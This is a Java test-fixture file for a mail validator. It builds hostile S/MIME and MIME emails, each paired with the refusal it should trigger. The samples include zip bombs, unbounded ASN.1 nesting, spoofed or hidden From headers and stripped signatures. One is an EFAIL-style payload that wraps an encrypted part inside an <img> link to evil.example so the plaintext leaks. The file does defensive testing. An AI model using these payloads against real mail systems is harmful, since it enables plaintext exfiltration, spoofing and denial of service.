package dk.attestbro.mail;

import static dk.attestbro.mail.Mails.ADDRESS;
import static dk.attestbro.mail.Mails.STRANGER;
import static dk.attestbro.mail.Mails.TEXT;
import static dk.attestbro.mail.Mails.WRITER;
import static dk.attestbro.mail.Mails.attachment;
import static dk.attestbro.mail.Mails.bytes;
import static dk.attestbro.mail.Mails.joined;
import static dk.attestbro.mail.Mails.mail;
import static dk.attestbro.mail.Mails.multipart;
import static dk.attestbro.mail.Mails.text;

import dk.attestbro.model.RefusalReason;
import dk.attestbro.samples.TestCa.Issued;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import org.bouncycastle.asn1.nist.NISTObjectIdentifiers;
import org.bouncycastle.asn1.pkcs.PKCSObjectIdentifiers;
import org.bouncycastle.cms.CMSException;
import org.bouncycastle.cms.CMSSignedData;
import org.bouncycastle.util.CollectionStore;

/** Mails that were made to hurt or to deceive, and the verdict that each gets. */
final class HostileMails {
  /** One of them, made when it is asked for. */
  record Hostile(RefusalReason verdict, Supplier<byte[]> mail) {}

  private static final byte[] BODY = bytes(TEXT);
  private static final String FROM = "From: " + ADDRESS + "\r\n";

  private HostileMails() {}

  static Map<String, Hostile> all() {
    Map<String, Hostile> all = new LinkedHashMap<>();
    ofSize(all);
    ofHeader(all);
    ofStructure(all);
    ofCryptography(all);
    ofTrust(all);
    return all;
  }

  private static void ofSize(Map<String, Hostile> all) {
    put(all, "100 MB", RefusalReason.MAIL_TOO_LARGE, () -> filled(100_000_000));
    put(
        all,
        "a header of 1 MB in one field",
        RefusalReason.MAIL_HEADER_TOO_LARGE,
        () -> bytes(FROM + "Subject: " + "x".repeat(1_000_000) + "\r\n\r\n"));
    put(
        all,
        "a header of 1 MB in many fields",
        RefusalReason.MAIL_HEADER_TOO_LARGE,
        () -> bytes(FROM + "X-A: b\r\n".repeat(125_000) + "\r\n"));
    put(
        all,
        "a header of 1 MB in folded lines",
        RefusalReason.MAIL_HEADER_TOO_LARGE,
        () -> bytes(FROM + "To: a@b.example" + ",\r\n a@b.example".repeat(70_000) + "\r\n\r\n"));
    put(
        all,
        "10 000 parts",
        RefusalReason.MAIL_TOO_MANY_PARTS,
        () -> mail(multipart("mixed", repeated(TEXT, 10_000))));
    put(all, "100 levels", RefusalReason.MAIL_TOO_DEEP, () -> mail(nested(100)));
    put(
        all,
        "100 levels, each a sibling's child",
        RefusalReason.MAIL_TOO_DEEP,
        () -> mail(bush(100)));
  }

  private static void ofHeader(Map<String, Hostile> all) {
    put(
        all,
        "two From fields",
        RefusalReason.MAIL_FROM_AMBIGUOUS,
        () -> bytes("From: boss@aarhus.example\r\n" + FROM + "\r\nHi"));
    put(
        all,
        "two From fields, one with a blank before its colon",
        RefusalReason.MAIL_FROM_AMBIGUOUS,
        () -> bytes("From : boss@aarhus.example\r\n" + FROM + "\r\nHi"));
    put(
        all,
        "two addresses in From",
        RefusalReason.MAIL_FROM_AMBIGUOUS,
        () -> bytes("From: boss@aarhus.example, " + ADDRESS + "\r\n\r\nHi"));
    put(
        all,
        "an address as the display name of another",
        RefusalReason.MAIL_FROM_INVALID,
        () -> bytes("From: boss@aarhus.example <" + ADDRESS + ">\r\n\r\nHi"));
    put(
        all,
        "a From that hides behind a carriage return",
        RefusalReason.MAIL_NOT_READABLE,
        () -> bytes("Subject: a\rFrom: boss@aarhus.example\r\n" + FROM + "\r\nHi"));
    put(all, "no From", RefusalReason.MAIL_FROM_INVALID, () -> bytes("Subject: a\r\n\r\nHi"));
    put(
        all,
        "two Sender fields",
        RefusalReason.MAIL_HEADER_AMBIGUOUS,
        () -> bytes(FROM + "Sender: a@b.example\r\nSender: c@d.example\r\n\r\nHi"));
    put(
        all,
        "two Content-Type fields",
        RefusalReason.MAIL_HEADER_AMBIGUOUS,
        () -> bytes(FROM + "Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nHi"));
  }

  private static void ofStructure(Map<String, Hostile> all) {
    put(
        all,
        "two boundaries",
        RefusalReason.MAIL_NOT_READABLE,
        () ->
            bytes(
                FROM
                    + "Content-Type: multipart/mixed; boundary=a; boundary=b\r\n\r\n"
                    + "--a\r\n\r\n"
                    + "A\r\n"
                    + "--a--\r\n"
                    + "--b\r\n\r\n"
                    + "B\r\n"
                    + "--b--\r\n"));
    put(
        all,
        "cut off in the middle",
        RefusalReason.MAIL_NOT_READABLE,
        () -> {
          byte[] whole =
              mail(multipart("mixed", TEXT, attachment("application/pdf", "a.pdf", "%")));
          return Arrays.copyOf(whole, whole.length - 20);
        });
    put(
        all,
        "two messages",
        RefusalReason.MAIL_MESSAGES_AMBIGUOUS,
        () ->
            mail(
                multipart(
                    "mixed",
                    attachment("application/fhir+json", "a.json", Mails.BUNDLE),
                    attachment("application/octet-stream", "b.json", Mails.BUNDLE))));
  }

  private static void ofCryptography(Map<String, Hostile> all) {
    put(
        all,
        "a zip bomb",
        RefusalReason.SMIME_COMPRESSED,
        () -> mail(Mails.compressed(filled(20_000_000))));
    put(
        all,
        "a zip bomb under signature and encryption",
        RefusalReason.SMIME_COMPRESSED,
        () -> mail(Mails.encrypted(Mails.opaque(Mails.compressed(filled(2_000_000)), WRITER))));
    put(
        all,
        "no CMS where CMS should be",
        RefusalReason.SMIME_NOT_READABLE,
        () -> mail(Mails.pkcs7("signed-data", bytes("nothing of the kind"))));
    put(
        all,
        "ASN.1 nested without end",
        RefusalReason.SMIME_NOT_READABLE,
        () -> mail(Mails.pkcs7("signed-data", nestedAsn1(100_000))));
    put(
        all,
        "a certificate nested without end",
        RefusalReason.SMIME_NOT_READABLE,
        () -> mail(Mails.pkcs7("signed-data", signedDataWith(nestedAsn1(100_000)))));
    put(
        all,
        "layer upon layer",
        RefusalReason.SMIME_TOO_COMPLEX,
        () -> {
          byte[] entity = BODY;
          for (int i = 0; i < 20; i++) {
            entity = Mails.opaque(entity, WRITER);
          }
          return mail(entity);
        });
    put(
        all,
        "more signatures than anyone has",
        RefusalReason.SMIME_TOO_COMPLEX,
        () -> {
          var signers = new Issued[200];
          Arrays.fill(signers, WRITER);
          return mail(Mails.opaque(BODY, signers));
        });
    put(
        all,
        "encrypted to someone else",
        RefusalReason.SMIME_NOT_DECRYPTED,
        () -> mail(Mails.encrypted(Mails.opaque(BODY, WRITER), STRANGER)));
    put(
        all,
        "one byte of the cipher text altered",
        RefusalReason.SMIME_NOT_DECRYPTED,
        () -> mail(altered(Mails.encrypted(Mails.opaque(BODY, WRITER)))));
    put(
        all,
        "AES-CBC from one who is not allowed it",
        RefusalReason.SMIME_ALGORITHM_NOT_TAKEN,
        () ->
            mail(Mails.encrypted(Mails.opaque(BODY, WRITER), NISTObjectIdentifiers.id_aes256_CBC)));
    put(
        all,
        "triple DES",
        RefusalReason.SMIME_ALGORITHM_NOT_TAKEN,
        () ->
            mail(Mails.encrypted(Mails.opaque(BODY, WRITER), PKCSObjectIdentifiers.des_EDE3_CBC)));
    put(
        all,
        "a signature by SHA-1",
        RefusalReason.SMIME_ALGORITHM_NOT_TAKEN,
        () ->
            mail(
                Mails.pkcs7(
                    "signed-data",
                    Mails.encoded(Mails.signedData("SHA1withECDSA", BODY, true, WRITER)))));
  }

  private static void ofTrust(Map<String, Hostile> all) {
    String encrypted = text(Mails.encrypted(Mails.opaque(BODY, WRITER)));
    put(
        all,
        "an encrypted part between two halves of a link",
        RefusalReason.SMIME_REWRAPPED,
        () ->
            mail(
                multipart(
                    "mixed",
                    "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/",
                    encrypted,
                    "Content-Type: text/html\r\n\r\n\">")));
    put(
        all,
        "an encrypted part in a multipart of its own",
        RefusalReason.SMIME_REWRAPPED,
        () -> mail(multipart("mixed", encrypted)));
    put(
        all,
        "an encrypted part within a signature by someone else",
        RefusalReason.SMIME_REWRAPPED,
        () -> mail(Mails.detached(bytes(multipart("mixed", TEXT, encrypted)), WRITER)));
    put(
        all,
        "a signature around what was encrypted by whoever",
        RefusalReason.SMIME_NOT_SIGNED,
        () -> mail(Mails.opaque(Mails.encrypted(BODY), WRITER)));
    put(
        all,
        "the signature taken away",
        RefusalReason.SMIME_NOT_SIGNED,
        () -> mail(Mails.encrypted(BODY)));
    put(
        all,
        "a signed multipart without its signature",
        RefusalReason.SMIME_NOT_SIGNED,
        () -> mail(multipart("signed; protocol=\"application/pkcs7-signature\"", TEXT)));
    put(
        all,
        "a signature over one part of several",
        RefusalReason.SMIME_SIGNATURE_PARTIAL,
        () -> mail(multipart("mixed", text(Mails.detached(BODY, WRITER)), TEXT)));
    put(
        all,
        "a part more behind the signature",
        RefusalReason.SMIME_SIGNATURE_PARTIAL,
        () ->
            mail(
                text(Mails.detached(BODY, WRITER))
                    .replace(
                        "\r\n--the-signed--", "\r\n--the-signed\r\n\r\nmore\r\n--the-signed--")));
    put(
        all,
        "encrypted and signed as a part only",
        RefusalReason.SMIME_SIGNATURE_PARTIAL,
        () -> mail(multipart("mixed", text(Mails.opaque(BODY, WRITER)), TEXT)));
    put(
        all,
        "one letter of the content altered",
        RefusalReason.SMIME_SIGNATURE_INVALID,
        () -> mail(text(Mails.detached(BODY, WRITER)).replaceFirst("\r\nK", "\r\nC")));
    put(
        all,
        "two signatures, one bad",
        RefusalReason.SMIME_SIGNATURES_DIFFER,
        () -> mail(Mails.withOneBadSignature(BODY)));
    put(
        all,
        "a right signature by the wrong person",
        RefusalReason.SMIME_SIGNER_NOT_SENDER,
        () -> mail(Mails.encrypted(Mails.opaque(BODY, STRANGER))));
    put(
        all,
        "the wrong person beside the right one",
        RefusalReason.SMIME_SIGNER_NOT_SENDER,
        () -> mail(Mails.detached(BODY, WRITER, STRANGER)));
    put(
        all,
        "an altered subject",
        RefusalReason.SMIME_HEADER_ALTERED,
        () ->
            mail(
                "a subject put on on the way",
                Mails.encrypted(Mails.opaque(wrapped("the subject", ADDRESS), WRITER))));
    put(
        all,
        "another From than the signed one",
        RefusalReason.SMIME_HEADER_ALTERED,
        () -> mail(Mails.opaque(wrapped("[AB] besked", "boss@aarhus.example"), WRITER)));
    put(
        all,
        "a signature whose certificate is not there",
        RefusalReason.SMIME_CERTIFICATE_MISSING,
        () -> mail(Mails.pkcs7("signed-data", Mails.encoded(withoutCertificates()))));
  }

  private static CMSSignedData withoutCertificates() {
    try {
      var signed = Mails.signedData(BODY, true, WRITER);
      return CMSSignedData.replaceCertificatesAndCRLs(
          signed,
          new CollectionStore<>(List.of()),
          signed.getAttributeCertificates(),
          signed.getCRLs());
    } catch (CMSException impossible) {
      throw new IllegalStateException(impossible);
    }
  }

  /** A whole mail as what is signed (RFC 8551, 3.1). */
  static byte[] wrapped(String subject, String from) {
    return joined(
        bytes(
            "Content-Type: message/rfc822\r\n\r\nFrom: "
                + from
                + "\r\nSubject: "
                + subject
                + "\r\nMessage-ID: <1@aarhus.example>\r\n"),
        BODY);
  }

  private static byte[] altered(byte[] entity) {
    byte[] altered = entity.clone();
    int at = altered.length - 400;
    altered[at] = (byte) (altered[at] == 'A' ? 'B' : 'A');
    return altered;
  }

  private static byte[] filled(int size) {
    byte[] mail = new byte[size];
    Arrays.fill(mail, (byte) 'x');
    byte[] head = bytes(FROM + "Content-Type: text/plain\r\n\r\n");
    System.arraycopy(head, 0, mail, 0, head.length);
    return mail;
  }

  private static String nested(int levels) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < levels; i++) {
      text.append("Content-Type: multipart/mixed; boundary=\"b").append(i).append("\"\r\n\r\n--b");
      text.append(i).append("\r\n");
    }
    text.append(TEXT);
    for (int i = levels - 1; i >= 0; i--) {
      text.append("\r\n--b").append(i).append("--\r\n");
    }
    return text.toString();
  }

  private static String bush(int levels) {
    String entity = TEXT;
    for (int i = 0; i < levels; i++) {
      entity = multipart("mixed", TEXT, entity);
    }
    return entity;
  }

  /** Indefinite lengths, each in the one before. */
  private static byte[] nestedAsn1(int levels) {
    byte[] asn1 = new byte[levels * 2];
    for (int i = 0; i < asn1.length; i += 2) {
      asn1[i] = 0x30;
      asn1[i + 1] = (byte) 0x80;
    }
    return asn1;
  }

  /** SignedData that goes well until its certificates are read. */
  private static byte[] signedDataWith(byte[] certificate) {
    byte[] signedData =
        new byte[] {
          0x30,
          (byte) 0x80,
          6,
          9,
          0x2a,
          (byte) 0x86,
          0x48,
          (byte) 0x86,
          (byte) 0xf7,
          0x0d,
          1,
          7,
          2,
          (byte) 0xa0,
          (byte) 0x80,
          0x30,
          (byte) 0x80,
          2,
          1,
          1,
          0x31,
          0,
          0x30,
          (byte) 0x80,
          6,
          9,
          0x2a,
          (byte) 0x86,
          0x48,
          (byte) 0x86,
          (byte) 0xf7,
          0x0d,
          1,
          7,
          1,
          (byte) 0xa0,
          (byte) 0x80,
          4,
          1,
          'x',
          0,
          0,
          0,
          0,
          (byte) 0xa0,
          (byte) 0x80
        };
    return joined(signedData, certificate);
  }

  private static void put(
      Map<String, Hostile> all, String name, RefusalReason verdict, Supplier<byte[]> mail) {
    all.put(name, new Hostile(verdict, mail));
  }

  private static String[] repeated(String text, int times) {
    String[] texts = new String[times];
    Arrays.fill(texts, text);
    return texts;
  }
}
